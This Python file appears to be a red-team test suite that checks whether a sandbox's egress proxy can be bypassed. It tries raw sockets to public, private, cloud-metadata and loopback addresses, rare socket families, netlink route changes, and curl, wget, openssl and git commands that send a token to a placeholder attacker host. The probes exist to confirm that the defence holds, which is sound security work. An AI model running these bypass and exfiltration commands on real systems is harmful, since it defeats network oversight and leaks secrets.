"""Going around the proxy (threat model, section 3): sockets of every kind, names, and what lies on loopback.

The programs print what they got; a defence shows as the name of an error.
"""

from __future__ import annotations

from penstock.redteam.expect import both, failed_with, nothing_sent, silent, untouched
from penstock.redteam.probe import Code, Expect, Phase, Probe, Seen, Shell

NO_WAY = (
    "ENETUNREACH",
    "EHOSTUNREACH",
    "EADDRNOTAVAIL",
    "EAFNOSUPPORT",
    "EPERM",
    "EACCES",
    "ECONNREFUSED",
    "EPROTONOSUPPORT",
    "ESOCKTNOSUPPORT",
)


def code_of(row: str, name: str, tries: str, source: str, expect: Expect, phase: Phase = "live") -> Probe:
    """Return a probe that is a Python program inside."""
    return Probe(id=f"{row}.{name}", row=row, tries=tries, attack=Code(source), expect=expect, phase=phase)


def connects(family: str, kind: str, address: str) -> str:
    """Return a program that connects, and says who answered or why nobody did."""
    return f"""
sock = socket.socket(socket.{family}, socket.{kind})
sock.settimeout(3)
try:
    sock.connect({address})
    sock.sendall(b"GET / HTTP/1.0\\r\\nX-Probe: @TOKEN@\\r\\n\\r\\n")
    print("connected", sock.recv(200)[:60])
except socket.timeout:
    print("ETIMEDOUT")
except OSError as error:
    print(name_of(error.errno))
"""


def only_the_vault(seen: Seen) -> str:
    """Nothing answered but the vault, with a refusal or by closing; this machine's services were not reached."""
    text = seen.back.text
    if not text:
        return f"it said nothing ({seen.back.error[-200:]})"
    if text.startswith("connected") and text.split(" ", 1)[1] != "b''" and "HTTP/1.1 4" not in text:
        return f"somebody answered: {text}"
    return nothing_sent(seen) or untouched(seen)


_TCP = tuple(
    code_of(
        "sockets",
        name,
        f"connect to {words}, past the proxy",
        connects("AF_INET", "SOCK_STREAM", address),
        only_the_vault,
    )
    for name, words, address in (
        ("public", "1.1.1.1:443", '("1.1.1.1", 443)'),
        ("public-80", "1.1.1.1:80", '("1.1.1.1", 80)'),
        ("public-odd", "1.1.1.1:8080", '("1.1.1.1", 8080)'),
        ("dns-tcp", "8.8.8.8:53", '("8.8.8.8", 53)'),
        ("private-10", "10.0.0.1:443", '("10.0.0.1", 443)'),
        ("docker-bridge", "172.17.0.1:80", '("172.17.0.1", 80)'),
        ("private-192", "192.168.1.1:80", '("192.168.1.1", 80)'),
        ("kubernetes", "10.96.0.1:443", '("10.96.0.1", 443)'),
        ("kubelet", "10.0.0.1:10250", '("10.0.0.1", 10250)'),
        ("own-address", "an own address of this machine", '("@HOSTADDRESS@", @HOSTPORT@)'),
    )
)


def _turned_away(seen: Seen) -> str:
    """The client ended with an error, and reached nobody."""
    return nothing_sent(seen) or untouched(seen) or ("" if seen.back.code else "the client was content")


def _client(name: str, tries: str, line: str, *needs: str) -> Probe:
    return Probe(id=f"sockets.{name}", row="sockets", tries=tries, attack=Shell(line, needs), expect=_turned_away)


_CLIENTS = (
    _client(
        "curl-noproxy",
        "curl past the proxy, to the attacker",
        "curl -sS -k -m 8 --noproxy '*' https://@EVIL@/@TOKEN@",
        "curl",
    ),
    _client(
        "curl-resolve",
        "curl past the proxy, to an address for the attacker's name that it brings along",
        "curl -sS -k -m 8 --noproxy '*' --resolve @EVIL@:443:198.51.100.4 https://@EVIL@/@TOKEN@",
        "curl",
    ),
    _client(
        "curl-bound-name",
        "curl to the attacker's name by the bound host's address",
        "curl -sS -k -m 8 --noproxy '*' --connect-to @EVIL@:443:api.bound.example:443 https://@EVIL@/@TOKEN@",
        "curl",
    ),
    _client(
        "wget",
        "wget without the proxy's variables",
        "env -u https_proxy -u HTTPS_PROXY wget -q -T 8 -t 1 --no-check-certificate -O- https://@EVIL@/@TOKEN@",
        "wget",
    ),
    _client(
        "openssl",
        "openssl to a public address, with the attacker's name",
        "openssl s_client -connect 198.51.100.4:443 -servername @EVIL@ </dev/null",
        "openssl",
    ),
    _client(
        "git-clone",
        "git clone from the attacker",
        "GIT_TERMINAL_PROMPT=0 git -c http.proxy= -c http.sslVerify=false ls-remote https://@EVIL@/@TOKEN@.git",
        "git",
    ),
)

_SERVICES = (
    code_of(
        "host-services",
        "loopback",
        "connect to a service of this machine on 127.0.0.1",
        connects("AF_INET", "SOCK_STREAM", '("127.0.0.1", @HOSTPORT@)'),
        both(failed_with("ECONNREFUSED"), untouched),
    ),
    code_of(
        "host-services",
        "loopback-other",
        "connect to it by 127.0.0.2",
        connects("AF_INET", "SOCK_STREAM", '("127.0.0.2", @HOSTPORT@)'),
        both(failed_with("ECONNREFUSED"), untouched),
    ),
    code_of(
        "host-services",
        "unspecified",
        "connect to it by 0.0.0.0",
        connects("AF_INET", "SOCK_STREAM", '("0.0.0.0", @HOSTPORT@)'),
        both(failed_with("ECONNREFUSED"), untouched),
    ),
    code_of(
        "host-services",
        "listening",
        "list the listening sockets of the machine",
        """
rows = open("/proc/net/tcp").read().split("\\n")[1:]
ports = sorted(int(row.split()[1].split(":")[1], 16) for row in rows if row and row.split()[3] == "0A")
if @HOSTPORT@ in ports:
    print("the service of this machine is listed")
""",
        silent,
    ),
    code_of(
        "host-services",
        "interfaces",
        "look for an interface that is not loopback",
        'names = [name for _, name in socket.if_nameindex() if name != "lo"]\nif names:\n    print(names)',
        silent,
    ),
    code_of(
        "host-services",
        "routes",
        "look for a route by an interface that is not loopback",
        """
rows = [row.split()[0] for row in open("/proc/net/route").read().split("\\n")[1:] if row]
if [row for row in rows if row != "lo"]:
    print(rows)
""",
        silent,
    ),
)

_IPV6 = tuple(
    code_of("ipv6", name, f"connect to {words}", connects("AF_INET6", "SOCK_STREAM", address), failed_with(*NO_WAY))
    for name, words, address in (
        ("public", "2606:4700::1111", '("2606:4700::1111", 443)'),
        ("link-local", "fe80::1", '("fe80::1", 443, 0, 1)'),
        ("loopback", "a service of this machine on ::1", '("::1", @HOSTPORT@)'),
        ("all-nodes", "ff02::1", '("ff02::1", 443, 0, 1)'),
        ("metadata", "fd00:ec2::254", '("fd00:ec2::254", 80)'),
    )
)


def _family(name: str, words: str, family: int, kind: int, protocol: int = 0) -> Probe:
    source = f'attempt(lambda: socket.socket({family}, {kind}, {protocol}) and "a socket")'
    return code_of("families", name, f"open {words}", source, failed_with(*NO_WAY))


_FAMILIES = (
    *(
        _family(*row)
        for row in (
            ("raw-icmp", "a raw socket for ICMP", 2, 3, 1),
            ("raw", "a raw IP socket", 2, 3, 255),
            ("raw-v6", "a raw IPv6 socket", 10, 3, 58),
            ("packet", "a packet socket", 17, 3, 0x0300),
            ("packet-dgram", "a cooked packet socket", 17, 2, 0x0300),
            ("vsock", "a VSOCK socket", 40, 1),
            ("alg", "a socket of the kernel's cryptography", 38, 5),
            ("bluetooth", "a Bluetooth socket", 31, 3, 1),
            ("can", "a CAN socket", 29, 3, 1),
            ("xdp", "an XDP socket", 44, 3),
            ("tipc", "a TIPC socket", 30, 1),
            ("rds", "an RDS socket", 21, 5),
            ("sctp", "an SCTP socket", 2, 1, 132),
            ("netfilter", "netlink to the packet filter", 16, 3, 12),
            ("audit", "netlink to the audit", 16, 3, 9),
            ("uevent", "netlink to device events", 16, 3, 15),
            ("key", "a PF_KEY socket", 15, 3, 2),
            ("smc", "an SMC socket", 43, 1),
            ("qipcrtr", "a QRTR socket", 42, 2),
            ("nfc", "an NFC socket", 39, 5, 1),
        )
    ),
    code_of(
        "families",
        "ping",
        "ping a public address",
        """
def ping():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)
    sock.sendto(b"\\x08\\x00\\x00\\x00\\x00\\x01\\x00\\x01", ("1.1.1.1", 0))
    sock.settimeout(1)
    try:
        return sock.recv(100) and "an answer" if False else "sent"
    except socket.timeout:
        return "silence"
attempt(ping)
""",
        failed_with(*NO_WAY),
    ),
    code_of(
        "families",
        "quic",
        "send UDP to port 443 of a public address",
        """
def send():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    sock.connect(("1.1.1.1", 443))
    sock.send(b"\\xc0" * 1200)
    try:
        return sock.recv(100) and "an answer"
    except socket.timeout:
        raise OSError(errno.ENETUNREACH, "silence")
attempt(send)
""",
        failed_with(*NO_WAY),
    ),
    code_of(
        "families",
        "udp-host",
        "send UDP to an own address of this machine",
        """
def send():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    sock.connect(("@HOSTADDRESS@", 9))
    sock.send(b"@TOKEN@")
    try:
        return sock.recv(100) and "an answer"
    except socket.timeout:
        raise OSError(errno.ENETUNREACH, "silence")
attempt(send)
""",
        failed_with(*NO_WAY),
    ),
    code_of(
        "families",
        "interface",
        "bring up an interface by netlink",
        """
import struct
sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
name = b"x0\\0\\0"
link = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("=HH", 8, 3) + name
link += struct.pack("=HH", 16, 18) + struct.pack("=HH", 9, 1) + b"dummy\\0\\0\\0"
sock.send(struct.pack("=IHHII", 16 + len(link), 16, 0x605, 1, 0) + link)
error = -struct.unpack_from("=i", sock.recv(4096), 16)[0]
print(name_of(error) if error else "done")
""",
        failed_with(*NO_WAY),
    ),
    code_of(
        "families",
        "route",
        "change the routes by netlink",
        """
import struct
sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
route = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HH4s", 8, 1, bytes([192, 0, 2, 99]))
route += struct.pack("=HHi", 8, 4, socket.if_nametoindex("lo"))
sock.send(struct.pack("=IHHII", 16 + len(route), 24, 0x405, 1, 0) + route)
error = -struct.unpack_from("=i", sock.recv(4096), 16)[0]
print(name_of(error) if error else "done")
""",
        failed_with(*NO_WAY),
    ),
)

PROBES: tuple[Probe, ...] = (*_TCP, *_CLIENTS, *_SERVICES, *_IPV6, *_FAMILIES)
